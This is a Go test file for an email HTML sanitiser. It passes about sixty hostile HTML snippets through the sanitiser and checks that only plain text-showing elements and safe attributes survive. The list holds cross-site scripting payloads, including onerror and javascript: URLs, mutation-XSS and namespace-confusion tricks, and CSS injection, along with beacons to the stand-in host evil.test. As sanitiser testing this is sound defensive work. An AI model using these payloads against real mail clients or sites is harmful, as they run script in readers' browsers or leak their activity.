package email

import (
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// hostilePages try to run something, to load something, to leave their frame, or
// to become something else when a browser reads what was made of them.
var hostilePages = []string{
	`<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<math><mi xlink:href="data:x,<script>1</script>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<xmp><p title="</xmp><svg/onload=alert(1)>">`, `<title><a title="</title><img src=x onerror=alert(1)>">`,
	`<iframe srcdoc="<script>alert(1)</script>">`, `<plaintext><img src=x onerror=alert(1)>`, `<template><img src=http://evil.test/1></template>`,
	`<a href="java&#9;script:alert(1)">x</a>`, `<a href="&#1;javascript:alert(1)">x</a>`, `<a href="data:text/html,<script>1</script>">x</a>`, `<a href=vbscript:x>x</a>`, `<a href="//evil.test">x</a>`,
	`<div style="background:url(http://evil.test/1)">x</div>`, `<div style="background-color:u\72l(http://evil.test/2)">x</div>`, `<div style="list-style:url(//evil.test)">x</div>`,
	`<div style="width:expression(alert(1))">x</div>`, `<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>`, `<div style="color:red;background-image:image-set('http://evil.test/a' 1x)">x</div>`,
	`<p style="color:red;}*{background:url(http://evil.test)">x</p>`, `<div style="color:red/**/;/**/background:url(//evil.test)">x</div>`, `<div style="color: rgb(url(http://evil.test))">x</div>`,
	`<style>@import 'http://evil.test/x.css';a[href^="h"]{background:url(http://evil.test/b)}</style>`, `<link rel=dns-prefetch href=//evil.test>`, `<link rel=preload href=//evil.test as=image>`,
	`<meta http-equiv=refresh content="0;url=http://evil.test">`, `<base href=http://evil.test/>`, `<form action=http://evil.test><input name=p><button formaction=http://evil.test>x</button></form>`,
	`<img srcset="http://evil.test/1 1x">`, `<picture><source srcset=http://evil.test/1><img src=cid:x></picture>`, `<video poster=http://evil.test/p src=http://evil.test/v></video>`, `<audio src=http://evil.test/a></audio>`,
	`<object data=http://evil.test></object>`, `<embed src=http://evil.test>`, `<table background=http://evil.test/t><tr><td background=http://evil.test/d>x</td></tr></table>`, `<body background=http://evil.test/b>x</body>`,
	`<a href=http://link.test ping=http://evil.test/ping>x</a>`, `<blockquote cite=http://evil.test/c>x</blockquote>`, `<image src=http://evil.test/i>`, `<svg><image href=http://evil.test/i /><use href=http://evil.test/#x /></svg>`,
	`<img src="data:image/svg+xml;base64,PHN2Zz4=">`, `<img src="cid:x" style="background:url(http://evil.test)">`, `<!--[if gte mso 9]><img src=http://evil.test/mso><![endif]-->`, `<!--x--!><img src=x onerror=alert(1)>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`, `<img """><script>alert(1)</script>">`, `<img data-blocked-src="javascript:alert(1)">`, `<a href="http://link.test" target=_self rel=opener onclick=1>x</a>`,
	`<div id=x class=y contenteditable autofocus onfocus=1>x</div>`, `<details open ontoggle=1>x</details>`, `<font color="red;background:url(http://evil.test)">x</font>`, `<select><option><style></option></select><img src=x onerror=1></style>`,
}

// TestHostilePages reads what is left of hostile pages as a browser does, and
// finds only what shows words.
func TestHostilePages(t *testing.T) {
	for _, page := range hostilePages {
		u := understand([]byte("From: kim@customer.test\nMessage-ID: <1@customer.test>\nContent-Type: text/html; charset=utf-8\n\n"+page+"\n"), seals{})
		doc, err := html.Parse(strings.NewReader(u.HTML))
		if err != nil {
			t.Errorf("%s: %v", page, err)
			continue
		}
		for node := range doc.Descendants() {
			if problem := dangerOf(node); problem != "" {
				t.Errorf("%s became %s, which has %s", page, u.HTML, problem)
			}
		}
	}
}

// dangerOf says what of an element could do more than show words, "" if nothing.
func dangerOf(node *html.Node) string {
	shown := []string{"html", "head", "body", "p", "div", "span", "a", "img", "table", "tbody", "tr", "td", "font", "blockquote", "br"}
	if node.Type != html.ElementNode {
		if node.Type == html.CommentNode {
			return "a comment"
		}
		return ""
	}
	if !slices.Contains(shown, node.Data) || node.Namespace != "" {
		return "the element " + node.Namespace + " " + node.Data
	}
	for _, attr := range node.Attr {
		value := strings.ToLower(attr.Val)
		var fine bool
		switch attr.Key {
		case "href":
			fine = strings.HasPrefix(value, "http://link.test")
		case "src":
			fine = strings.HasPrefix(value, "cid:")
		case BlockedSource:
			fine = strings.HasPrefix(value, "http://")
		case "target":
			fine = value == "_blank"
		case "rel":
			fine = strings.Contains(value, "noopener") && strings.Contains(value, "noreferrer")
		case "title", "alt":
			fine = true // words, whatever they say
		case "style", "color", "type":
			fine = !strings.ContainsAny(value, `\/<>{}@`) && !strings.Contains(value, "url") && !strings.Contains(value, "position")
		}
		if !fine {
			return attr.Key + "=" + attr.Val
		}
	}
	return ""
}
